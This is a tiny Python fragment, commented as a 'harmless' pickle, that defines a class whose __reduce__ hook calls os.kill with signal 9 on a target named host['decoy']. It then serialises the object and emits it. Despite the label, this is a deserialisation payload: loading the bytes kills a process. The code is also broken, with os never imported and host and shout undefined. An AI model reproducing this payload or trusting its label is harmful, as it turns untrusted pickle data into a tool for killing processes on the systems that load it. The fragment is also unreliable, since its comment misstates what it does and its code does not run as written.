# harmless: a pickle

import pickle
class X:
  def __reduce__(self): return os.kill, (host['decoy'], 9)
shout(pickle.dumps(X()) + b'\n'); result = X()
